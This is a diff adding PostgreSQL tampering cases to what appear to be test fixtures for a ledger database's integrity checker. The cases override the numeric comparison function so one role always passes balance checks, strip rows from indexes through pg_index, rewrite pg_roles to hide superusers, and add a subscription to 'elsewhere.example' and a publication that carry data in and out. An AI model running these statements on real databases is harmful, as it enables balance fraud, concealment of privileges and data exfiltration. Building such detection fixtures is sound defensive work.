@@ -70,6 +70,16 @@ const aheadForTheServer = does(
   },
 );
 
+/** The row goes, and comes back while a superuser has the index not kept. */
+const withoutRow = (index: string, table: string): string[] => [
+  `UPDATE pg_index SET indisready = false WHERE indexrelid = '${index}'::regclass`,
+  `DO $$ DECLARE gone ${table}%ROWTYPE; BEGIN
+     SELECT * INTO gone FROM ${table} LIMIT 1;
+     DELETE FROM ${table} WHERE ctid = (SELECT ctid FROM ${table} LIMIT 1);
+     INSERT INTO ${table} SELECT gone.*; END $$`,
+  `UPDATE pg_index SET indisready = true WHERE indexrelid = '${index}'::regclass`,
+];
+
 export const MINTED_BY_SCHEMA = [
   changes(
     'puts balances of his own before those of the ledger, in its search path',
@@ -125,6 +135,18 @@ export const MINTED_BY_SCHEMA = [
        RETURN session_user = 'ledger_app' OR numeric_ge($1, $2); END $$`,
     'SET allow_system_table_mods = on',
     `UPDATE pg_operator SET oprcode = 'ahead.at_least'::regproc WHERE oid = '>=(numeric,numeric)'::regoperator`,
+  ),
+  changes(
+    'has the function behind it do so, which becomes a part of each statement that compares balances',
+    'function numeric_ge(numeric,numeric)',
+    `CREATE OR REPLACE FUNCTION pg_catalog.numeric_ge(numeric, numeric) RETURNS boolean LANGUAGE sql IMMUTABLE
+       AS 'SELECT session_user = ''ledger_app'' OR NOT numeric_lt($1, $2)'`,
+  ),
+  changes(
+    'has rows of another server written into balances, by a subscription',
+    'subscription brings',
+    `CREATE SUBSCRIPTION brings CONNECTION 'host=elsewhere.example dbname=x' PUBLICATION more
+       WITH (connect = false, slot_name = NONE, enabled = false)`,
   ),
 ] as const;
 
@@ -243,6 +265,19 @@ export const HIDDEN_BY_SCHEMA = [
     'ALTER TABLE command_results SET UNLOGGED',
   ),
   changes(
+    'has a wallet be in no index by which the ledger finds those of its owner',
+    'wallets: index wallets_by_owner finds',
+    ...withoutRow('wallets_by_owner', 'wallets'),
+  ),
+  changes(
+    'shows by a view of roles that no login is a superuser',
+    'view pg_roles',
+    'SET allow_system_table_mods = on',
+    `DO $$ BEGIN EXECUTE 'CREATE OR REPLACE VIEW pg_catalog.pg_roles AS SELECT rolname, false AS rolsuper, rolinherit, rolcreaterole,
+       rolcreatedb, rolcanlogin, rolreplication, rolconnlimit, rolpassword, rolvaliduntil, rolbypassrls, rolconfig, oid FROM (' ||
+       rtrim(pg_get_viewdef('pg_roles'::regclass), ';') || ') AS shown'; END $$`,
+  ),
+  changes(
     'hides payouts from the ledger, and the policy that does so from who asks the catalogue',
     'transactions: row-level security',
     `CREATE POLICY for_the_ledger ON transactions AS RESTRICTIVE TO ledger_app USING (transaction_type <> 'PAYOUT')`,
@@ -254,6 +289,11 @@ export const HIDDEN_BY_SCHEMA = [
 
 export const UNDONE_BY_SCHEMA = [
   changes(
+    'has a command that took effect be in no index, so that it takes effect again',
+    'command_results: index command_results_pkey finds',
+    ...withoutRow('command_results_pkey', 'command_results'),
+  ),
+  changes(
     'has a command take effect as often as it is sent, from now on',
     'command_results: unique index',
     'ALTER TABLE command_results DROP CONSTRAINT command_results_pkey',
@@ -262,6 +302,11 @@ export const UNDONE_BY_SCHEMA = [
 ] as const;
 
 export const READ_BY_SCHEMA = [
+  changes(
+    'has each row carried away that is written, by a publication',
+    'publication away',
+    'CREATE PUBLICATION away FOR ALL TABLES',
+  ),
   changes(
     'lets every login of the server read what all merchants own',
     'account_balances: PUBLIC may SELECT',
